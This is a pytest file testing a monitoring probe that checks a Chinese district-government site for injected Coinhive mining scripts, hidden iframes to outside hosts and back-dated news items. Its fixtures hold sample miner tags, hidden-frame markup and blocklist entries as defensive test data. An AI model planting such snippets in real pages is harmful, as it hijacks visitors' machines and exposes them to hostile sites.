"""Security findings through the real content probe on loopback sites (issue 19): 挂马 and crypto-mining
scripts, and back-dated column items, each with a twin where it must not fire."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from agent.demo import hostile
from agent.demo.dnsserver import DnsServer
from agent.findings.findings import site_findings
from agent.registry.config import Config, ConfigError, loads
from agent.run.state import StateStore
from probes import content_probe
from probes.content import backdated, dates
from probes.context import ProbeContext
from probes.net import Network

NOW = dates.to_timestamp(2026, 11, 20, 10, 0)
assert NOW is not None
DAY, HOUR = 86400.0, 3600.0
CODE = "4405070010"
HOST = "www.lh.gov.cn"
FOOTER = "<div class=foot>主办：汕头市龙湖区人民政府 网站标识码：4405070010 粤ICP备05080455号 粤公网安备 44050702000123号</div>"


def page(body: str, head: str = "") -> str:
    return (
        '<html><head><meta charset="utf-8"><title>汕头市龙湖区人民政府</title>'
        f"{head}</head><body><ul class=list><li><a href=/a1.html>区政府召开安全生产工作会议</a><span>2026-11-19</span></li>"
        f"</ul>{body}{FOOTER}</body></html>"
    )


def column(*rows: tuple[str, str, str]) -> str:
    """A column page listing (path, title, date) rows."""
    lis = "".join(f"<li><a href={p}>{t}</a><span>{d}</span></li>" for p, t, d in rows)
    return f'<html><head><meta charset="utf-8"><title>工作动态</title></head><body><ul class=list>{lis}</ul>{FOOTER}</body></html>'


class Site:
    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.base = ""

    async def handle(self, request: web.Request) -> web.Response:
        body = self.pages.get(request.path)
        if body is None:
            return web.Response(status=404, text="not found")
        return web.Response(body=body.encode("utf-8"), content_type="text/html", charset="utf-8")


@pytest.fixture
async def site() -> AsyncIterator[Site]:
    s = Site()
    app = web.Application()
    app.router.add_route("GET", "/{tail:.*}", s.handle)
    async with await hostile.serve_app(app) as served:
        s.base = f"http://{HOST}:{served.port}"
        yield s


@pytest.fixture
async def dns() -> AsyncIterator[DnsServer]:
    server = DnsServer(records={HOST: ["127.0.0.1"]})
    await server.start()
    try:
        yield server
    finally:
        await server.close()


def config(site: Site, dns: DnsServer, content: str = "", columns: bool = False) -> Config:
    cols = f"\n      - {{name: 工作动态, url: '{site.base}/gzdt/', category: news}}" if columns else " []"
    return loads(f"""
dns: {{nameservers: ["{dns.address}"]}}
content: {{timeout: 2s{content}}}
sites:
  - code: "{CODE}"
    name: 汕头市龙湖区人民政府
    url: "{site.base}/"
    columns:{cols}
""")


Run = Callable[..., Any]


@pytest.fixture
async def run() -> AsyncIterator[Run]:
    nets: list[Network] = []

    async def probe(cfg: Config, *, state: StateStore | None = None, now: float = NOW) -> Any:
        net = Network(cfg.dns, cfg.tls, cfg.http)
        nets.append(net)
        ctx = ProbeContext(config=cfg, net=net, state=state or StateStore(None), clock=lambda: now)
        return await content_probe.probe(cfg.sites[0], ctx)

    yield probe
    for net in nets:
        await net.close()


def kinds(r: Any) -> list[tuple[str, str]]:
    return sorted((f["kind"], f["host"] or f.get("code", "")) for f in r.details["malicious_scripts"])


# --- 挂马 and crypto-mining ------------------------------------------------------------------------


async def test_a_mining_script_and_its_start_call_are_injected_scripts(site: Site, dns: DnsServer, run: Run) -> None:
    site.pages["/"] = page(
        '<script src="https://coinhive.com/lib/coinhive.min.js"></script>'
        "<script>var miner = new CoinHive.Anonymous('SITE-KEY', {throttle: 0.3}); miner.start();</script>"
    )
    r = await run(config(site, dns))
    assert r.success and r.malicious_scripts == 2
    assert kinds(r) == [("blocklisted script", "coinhive.com"), ("mining code", "CoinHive.Anonymous")]
    assert all(f["where"] == "homepage" for f in r.details["malicious_scripts"])
    found = [f for f in site_findings(config(site, dns).sites[0], {"content": r}, config(site, dns).content, NOW)]
    assert [f["finding"] for f in found if f["finding"] == "malicious_script"] == ["malicious_script"] * 2


async def test_a_bulletin_about_coinhive_in_the_text_or_a_commented_out_miner_is_no_finding(
    site: Site, dns: DnsServer, run: Run
) -> None:
    # The twin: a 网信办 security bulletin names the miner in its text; an old snippet sits in a comment.
    site.pages["/"] = page(
        "<p>关于防范 CoinHive.Anonymous 挖矿脚本（coinhive.min.js）的预警通报</p>"
        "<!-- <script src=https://coinhive.com/lib/coinhive.min.js></script>"
        "<script>new CoinHive.Anonymous('x')</script> -->"
        "<script>var stats = 'no miner here';</script>"
    )
    r = await run(config(site, dns))
    assert r.success and r.malicious_scripts == 0 and r.details["malicious_scripts"] == []


async def test_a_hidden_frame_to_a_host_outside_government_is_injected(site: Site, dns: DnsServer, run: Run) -> None:
    site.pages["/"] = page(
        '<iframe src="http://www.bc-yule-888.com/in.html" width="0" height="0" frameborder="0"></iframe>'
        '<div style="position:absolute;left:-9999px"><iframe src="https://pay.example.net/x"></iframe></div>'
        '<iframe src="http://fake-conac.cn/x" style="display:none"></iframe>'  # not conac.cn's own host
        '<iframe src="https://dcs.conac.cn/js/mark.html" width="1" height="1"></iframe>'  # the national service
    )
    r = await run(config(site, dns))
    assert r.malicious_scripts == 3
    assert kinds(r) == [
        ("hidden frame", "fake-conac.cn"),
        ("hidden frame", "pay.example.net"),
        ("hidden frame", "www.bc-yule-888.com"),
    ]
    hows = {f["host"]: f["evidence"] for f in r.details["malicious_scripts"]}
    assert "width=0" in hows["www.bc-yule-888.com"] and "off-screen" in hows["pay.example.net"]


async def test_a_visible_video_frame_and_a_hidden_frame_to_gov_cn_are_no_finding(
    site: Site, dns: DnsServer, run: Run
) -> None:
    site.pages["/"] = page(
        '<iframe src="https://www.gov.cn/govweb/video/player.html?id=1" width="640" height="360"></iframe>'
        '<iframe src="https://v.qq.com/txp/iframe/player.html?vid=x" width="640" height="360"></iframe>'
        '<iframe src="https://tj.gd.gov.cn/count.html" width="0" height="0"></iframe>'
        '<div style="display:none"><iframe src="http://www.lh.gov.cn/share.html"></iframe></div>'
    )
    r = await run(config(site, dns))
    assert r.success and r.malicious_scripts == 0, r.details["malicious_scripts"]


async def test_an_office_blocklist_from_the_configuration_is_used_on_column_pages_too(
    site: Site, dns: DnsServer, run: Run, tmp_path: Path
) -> None:
    listed = tmp_path / "blocklist.txt"
    listed.write_text("# our own\nstat.bad-counter.cn\ncode:evilLoader.run(\n", encoding="utf-8")
    site.pages["/"] = page("")
    site.pages["/gzdt/"] = column(("/b1.html", "我区举行秋季运动会开幕式", "2026-11-18")).replace(
        "</body>", '<script src="//js.stat.bad-counter.cn/c.js"></script></body>'
    )
    shipped = await run(config(site, dns, columns=True))
    assert shipped.malicious_scripts == 0  # not on the shipped list
    r = await run(config(site, dns, f", blocklists: ['{listed}']", columns=True))
    assert r.malicious_scripts == 1
    (f,) = r.details["malicious_scripts"]
    assert (f["where"], f["kind"], f["host"]) == ("column 工作动态", "blocklisted script", "js.stat.bad-counter.cn")


def test_a_malformed_blocklist_names_its_file_and_line(tmp_path: Path) -> None:
    bad = tmp_path / "bad.txt"
    bad.write_text("coinhive.com\nnot a host!\nwww.example.gov.cn\n", encoding="utf-8")
    with pytest.raises(ConfigError) as e:
        loads(f"content: {{blocklists: ['{bad}']}}\nsites: []\n")
    text = str(e.value)
    assert "content.blocklists" in text and f"{bad}:2" in text and f"{bad}:3" in text and "government" in text


# --- 伪造发稿日期: back-dated column items -----------------------------------------------------------


NEWS = [(f"/gzdt/art_{100 + i}.html", f"工作动态第{i}条消息标题", f"2026-11-{18 - i:02d}") for i in range(5)]


async def test_an_item_that_appears_later_dated_before_the_last_check_is_back_dated(
    site: Site, dns: DnsServer, run: Run, tmp_path: Path
) -> None:
    site.pages["/"] = page("")
    site.pages["/gzdt/"] = column(*NEWS)
    cfg, db = config(site, dns, columns=True), tmp_path / "xuncha.db"
    first = await run(cfg, state=StateStore(db))
    assert first.backdated_items == 0  # nothing to compare with yet
    # Five days later, after a check that showed the same list, an item appears dated 2026-11-16.
    same = await run(cfg, state=StateStore(db), now=NOW + 4 * DAY)
    assert same.backdated_items == 0
    site.pages["/gzdt/"] = column(
        NEWS[0], NEWS[1], ("/gzdt/art_180.html", "补发的工作动态消息", "2026-11-16"), *NEWS[2:]
    )
    r = await run(cfg, state=StateStore(db), now=NOW + 5 * DAY)
    assert r.backdated_items == 1
    (f,) = r.details["backdated_items"]
    assert (f["column"], f["title"], f["published"]) == ("工作动态", "补发的工作动态消息", "2026-11-16")
    assert f["previous_check"] == "2026-11-24T10:00+08:00" and f["first_seen"] == "2026-11-25T10:00+08:00"
    assert "article id 180" in f["evidence"]
    # Kept for review after the item is no longer new, then forgotten after content.backdated_keep_days.
    kept = await run(cfg, state=StateStore(db), now=NOW + 6 * DAY)
    assert kept.backdated_items == 1
    gone = await run(cfg, state=StateStore(db), now=NOW + 36 * DAY)
    assert gone.backdated_items == 0
    stored = StateStore(db).get(backdated.NAMESPACE, CODE)
    assert set(stored) == {"工作动态"} and len(stored["工作动态"]["seen"]) == 6  # digests only: bounded


async def test_a_new_item_with_todays_date_or_an_old_notice_pinned_again_is_not_back_dated(
    site: Site, dns: DnsServer, run: Run, tmp_path: Path
) -> None:
    site.pages["/"] = page("")
    site.pages["/gzdt/"] = column(*NEWS[1:])
    cfg, db = config(site, dns, columns=True), tmp_path / "xuncha.db"
    await run(cfg, state=StateStore(db))
    # a legitimately new item, dated today, and one dated yesterday that the CMS published late
    site.pages["/gzdt/"] = column(
        ("/gzdt/art_190.html", "今天发布的工作动态", "2026-11-21"),
        ("/gzdt/art_191.html", "昨天的会议消息", "2026-11-20"),
        *NEWS[1:],
    )
    r = await run(cfg, state=StateStore(db), now=NOW + DAY)
    assert r.backdated_items == 0, r.details["backdated_items"]
    # an old notice (a low article id) pinned to the top again: shown anew, not written now
    site.pages["/gzdt/"] = column(("/gzdt/art_050.html", "关于防汛工作的通知（置顶）", "2026-10-01"), *NEWS[1:])
    pinned = await run(cfg, state=StateStore(db), now=NOW + 2 * DAY)
    assert pinned.backdated_items == 0, pinned.details["backdated_items"]
